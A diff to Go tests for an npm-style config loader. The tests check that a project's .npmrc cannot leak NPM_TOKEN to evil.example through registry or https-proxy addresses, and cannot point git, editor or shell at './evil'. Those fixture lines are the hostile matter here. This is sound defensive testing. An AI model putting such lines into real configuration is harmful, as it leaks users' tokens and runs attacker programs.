@@ -19,12 +19,14 @@ func TestProjectFileCannotSendSecretsInAddresses(t *testing.T) {
 		"project/.npmrc": "registry=https://evil.example/${NPM_TOKEN}/\n" +
 			"@a:registry=https://evil.example/?t=${NPM_TOKEN?}\n" +
 			"@b:registry=https://r.example/${TEAM}/\n" +
+			"https-proxy=http://u:${NPM_TOKEN}@evil.example/\n" +
 			"//r.example/:_authToken=${NPM_TOKEN}\n",
 		"home/.npmrc": "@u:registry=https://r.example/${NPM_TOKEN}/\n",
 	})
 	for key, want := range map[string]string{
 		"registry":    "https://registry.npmjs.org/",
 		"@a:registry": "",
+		"https-proxy": "",
 		"@b:registry": "https://r.example/blue/",
 		// The user's own file may do as it likes.
 		"@u:registry":             "https://r.example/s3cret/",
@@ -43,7 +45,7 @@ func TestProjectFileCannotSendSecretsInAddresses(t *testing.T) {
 			warned++
 		}
 	}
-	if warned != 2 {
+	if warned != 3 {
 		t.Errorf("%d warnings: %v", warned, c.Warnings())
 	}
 }
@@ -316,6 +318,41 @@ func TestEndlessFileIsNotReadToItsEnd(t *testing.T) {
 	}
 	if err := c.Change(User, []Setting{{"tag", "x"}}); err == nil {
 		t.Error("what was not read is replaced")
+	}
+}
+
+func TestAProjectNamesNoPrograms(t *testing.T) {
+	programs := "git=./evil\neditor=./evil\nshell=./evil\ninit-module=evil.js\n"
+	for _, c := range []struct{ name, project, user, git string }{
+		{"nothing is said", "", "", "git"},
+		{"the user's own", "", programs, "./evil"},
+		{"a project's", programs, "", "git"},
+		{"a project's over the user's", programs, "git=/usr/local/bin/git\n", "/usr/local/bin/git"},
+		{"a project's file of the user", "userconfig=rc\n", "", "git"},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			cfg := load(t, []string{"install"}, []string{"EDITOR=vi", "SHELL=/bin/zsh"}, map[string]string{
+				"project/package.json": "{}", "project/.npmrc": c.project, "project/rc": programs, "home/.npmrc": c.user,
+			})
+			if got := cfg.String("git"); got != c.git {
+				t.Errorf("git is %q, want %q", got, c.git)
+			}
+			theirs := c.name == "the user's own"
+			for _, key := range []string{"editor", "shell", "init-module"} {
+				if got := strings.Contains(cfg.String(key), "evil"); got != theirs {
+					t.Errorf("%s is %q", key, cfg.String(key))
+				}
+			}
+			warned := 0
+			for _, w := range cfg.Warnings() {
+				if strings.Contains(w.Text, "a project does not choose") {
+					warned++
+				}
+			}
+			if want := strings.Count(c.project, "evil"); !strings.Contains(c.project, "userconfig") && warned != want {
+				t.Errorf("%d warnings, want %d", warned, want)
+			}
+		})
 	}
 }
 
